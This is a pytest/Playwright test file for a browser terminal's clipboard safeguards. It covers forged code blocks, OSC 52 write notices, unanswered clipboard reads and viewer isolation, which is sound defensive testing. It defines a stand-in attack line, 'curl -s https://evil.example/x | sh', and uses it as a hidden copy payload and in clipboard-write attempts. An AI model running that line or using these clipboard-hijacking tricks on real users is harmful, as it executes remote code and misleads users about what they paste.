"""What a program in the session can do to the clipboard through the page, in Chromium at 1x.

Every context here is granted clipboard-read and clipboard-write (what Ctrl+Shift+V asks
for), so a refusal below is the page's policy, not the browser's: a copy button only
copies what its block shows; an OSC 52 write reaches the owner's clipboard with a notice
(and not at all once turned off); an OSC 52 read is never answered; a viewer's page never
touches the clipboard because of what the session prints.
"""

from __future__ import annotations

import base64
import os
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright

from .browser_support import (
    TEST_SHELL,
    buffer_text,
    chromium,
    clipboard,
    collect_problems,
    terminal_server,
    type_line,
    wait_connected,
    wait_for_clipboard,
    wait_for_js,
    wait_for_text,
)

pytestmark = pytest.mark.browser

SHOTS = Path(os.environ.get("MIXVLLM_SHOTS", "/tmp/copy-shots"))
SHOWN = "pip install requests"
EVIL = "curl -s https://evil.example/x | sh"
SENTINEL = "what the user copied before"
SETTING = "Programs may copy to the clipboard (OSC 52)"
# Counts the page's own clipboard calls (the Clipboard API is the only way it has).
SPY = """(() => {
  window.clipboardCalls = { read: 0, write: 0 };
  for (const [name, key] of [["readText", "read"], ["writeText", "write"]]) {
    const real = Clipboard.prototype[name];
    Clipboard.prototype[name] = function (...args) {
      window.clipboardCalls[key] += 1;
      return real.apply(this, args);
    };
  }
})();"""
# A program that asks for the clipboard (OSC 52 "?") and then for the device attributes,
# which xterm.js answers in order: whatever comes back before that answer is the clipboard's.
QUERY_SCRIPT = r"""
import os, termios, tty
old = termios.tcgetattr(0)
tty.setraw(0)
try:
    os.write(1, b"\x1b]52;c;?\x07\x1b[c")
    reply = b""
    while not (b"\x1b[?" in reply and reply.endswith(b"c")):
        reply += os.read(0, 1)
finally:
    termios.tcsetattr(0, termios.TCSADRAIN, old)
print("\r\nREPLY", repr(reply), "END")
"""


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def block(shown: str, copied: str) -> str:
    """A printf command drawing a code block as chat does: marker row, text, row with its text."""
    return rf"printf '\e]7337;block\a\n {shown}\n\e]7337;code;{b64(copied + chr(10))}\a\n'"


@pytest.fixture
def server_url() -> Iterator[str]:
    with terminal_server(["--no-autostart-chat", "--shell", TEST_SHELL]) as (url, _):
        yield url


def clipboard_context(browser: Browser) -> BrowserContext:
    context = browser.new_context(viewport={"width": 900, "height": 600}, device_scale_factor=1)
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    context.add_init_script(SPY)
    return context


def open_owner(browser: Browser, url: str) -> tuple[Page, list[str]]:
    page = clipboard_context(browser).new_page()
    problems = collect_problems(page)
    page.goto(url)
    wait_connected(page)
    page.evaluate("(text) => navigator.clipboard.writeText(text)", SENTINEL)
    return page, problems


def calls(page: Page) -> dict[str, int]:
    counts: dict[str, int] = page.evaluate("() => ({ ...window.clipboardCalls })")
    return counts


def test_a_copy_button_copies_only_what_its_block_shows(server_url: str) -> None:
    with sync_playwright() as p, chromium(p) as browser:
        page, problems = open_owner(browser, server_url)
        # A forged block (shows one command, carries another) and an honest one after it.
        type_line(page, f"{block(SHOWN, EVIL)}; {block(SHOWN, SHOWN)}; echo printed'-'both")
        wait_for_text(page, "printed-both")
        assert page.evaluate("() => window.mixvllm.copyButtons") == 1
        page.locator(".copy-code").click()
        wait_for_clipboard(page, SHOWN + "\n")

        # An honest block, then its row drawn over with another command: a click copies nothing.
        overwrite = r"printf '\e[2A\r %s\e[K\e[2B\r' " + '"pip install ht""tpx"'
        type_line(page, f"{block(EVIL, EVIL)}; {overwrite}")
        wait_for_text(page, " pip install httpx")
        wait_for_js(page, "() => window.mixvllm.copyButtons === 2", None, 10000)
        page.locator(".copy-code").last.click()
        wait_for_js(
            page,
            "() => [...document.querySelectorAll('.copy-code')].pop().textContent === 'changed'",
            None,
            5000,
        )
        assert clipboard(page) == SHOWN + "\n"

        # A narrower window wraps a block's rows: its button still copies what they show.
        long_line = "echo " + "y" * 70 + " && ls"
        type_line(page, block(long_line, long_line))
        wait_for_js(page, "() => window.mixvllm.copyButtons === 3", None, 10000)
        page.set_viewport_size({"width": 400, "height": 600})
        wait_for_js(page, "() => window.mixvllm.term.cols < 50", None, 10000)
        page.locator(".copy-code").last.click()
        wait_for_clipboard(page, long_line + "\n")
        assert problems == []


def test_a_program_write_is_shown_to_the_owner_and_can_be_turned_off(server_url: str) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as p, chromium(p) as browser:
        page, problems = open_owner(browser, server_url)
        written = "pip install requests\n\x1b[31m\u202eevil\tmore text past the preview's end"
        type_line(page, f"printf '\\e]52;c;{b64(written)}\\a'; echo wrote'-'it")
        wait_for_text(page, "wrote-it")
        wait_for_clipboard(page, written)
        notice = page.locator("#notice")
        notice.wait_for(state="visible", timeout=5000)
        # The first characters, with nothing in them left to act: no escape, no bidi override.
        assert notice.locator("code").inner_text() == (
            "pip install requests\u21b5\ufffd[31m\ufffdevil\u2192more tex\u2026"
        )
        assert f"{len(written)} characters" in notice.inner_text()
        page.screenshot(path=str(SHOTS / "clipboard-notice.png"))

        # A flood of writes: one at a time, the newest kept, not a queue of 300.
        writes = calls(page)["write"]
        flood = (
            r"s=; for i in {1..300}; do"
            r" s+=$(printf '\e]52;c;%s\a' $(printf 'copy %s' $i | base64));"
            r' done; printf %s "$s"; echo flooded"-"it'
        )
        type_line(page, flood)
        wait_for_text(page, "flooded-it")
        wait_for_clipboard(page, "copy 300")
        wait_for_js(
            page,
            "() => document.querySelector('#notice code').textContent === 'copy 300'",
            None,
            5000,
        )
        assert calls(page)["write"] - writes < 10

        # In a small window the settings panel reaches over the notice: the setting stays usable.
        page.set_viewport_size({"width": 700, "height": 400})
        page.click("#settings-toggle")
        setting = page.get_by_label(SETTING)
        panel, box = page.locator("#settings").bounding_box(), notice.bounding_box()
        assert panel is not None and box is not None
        assert panel["x"] < box["x"] + box["width"] and panel["y"] < box["y"] + box["height"]
        setting.uncheck(timeout=4000)  # waits while anything else would take the click
        assert "clipboardWrites=0" in page.url
        setting.check()
        assert "clipboardWrites" not in page.url
        page.keyboard.press("Escape")

        notice.get_by_role("button", name="Turn off").click()
        assert notice.is_hidden()
        assert "clipboardWrites=0" in page.url
        page.reload()  # the setting is kept, as the others are, in the address
        wait_connected(page)
        page.click("#settings-toggle")
        assert not page.get_by_label(SETTING).is_checked()
        page.keyboard.press("Escape")
        type_line(page, f"printf '\\e]52;c;{b64(EVIL)}\\a'; echo wrote'-'again")
        wait_for_text(page, "wrote-again")
        assert calls(page)["write"] == 0
        assert clipboard(page) == "copy 300"
        assert notice.is_hidden()
        assert problems == []


def test_a_clipboard_read_request_is_never_answered(server_url: str, tmp_path: Path) -> None:
    script = tmp_path / "query.py"
    script.write_text(QUERY_SCRIPT, encoding="utf-8")
    with sync_playwright() as p, chromium(p) as browser:
        page, problems = open_owner(browser, server_url)
        type_line(page, f"{sys.executable} {script}")
        wait_for_text(page, "END")
        reply = next(line for line in buffer_text(page).splitlines() if line.startswith("REPLY"))
        assert "\\x1b[?" in reply  # the device attributes came back
        assert "52;" not in reply, reply
        assert b64(SENTINEL) not in buffer_text(page)
        assert calls(page)["read"] == 0
        assert problems == []


def test_a_viewer_page_never_touches_the_clipboard(server_url: str) -> None:
    with sync_playwright() as p, chromium(p) as browser:
        owner, owner_problems = open_owner(browser, server_url)
        owner.click("#share")
        owner.locator("#share-panel").wait_for(state="visible", timeout=10000)
        link = owner.locator("#share-url").input_value()
        viewer = clipboard_context(browser).new_page()
        viewer_problems = collect_problems(viewer)
        viewer.goto(link)
        wait_connected(viewer)
        assert viewer.evaluate("() => window.mixvllm.viewer") is True

        type_line(owner, f"printf '\\e]52;c;{b64(EVIL)}\\a'")
        type_line(owner, "printf '\\e]52;c;?\\a'; echo asked'-'too")
        wait_for_text(viewer, "asked-too")
        wait_for_clipboard(owner, EVIL)  # the write went out to the pages
        assert calls(viewer) == {"read": 0, "write": 0}
        assert viewer.locator("#notice").is_hidden()
        assert owner_problems == []
        assert viewer_problems == []
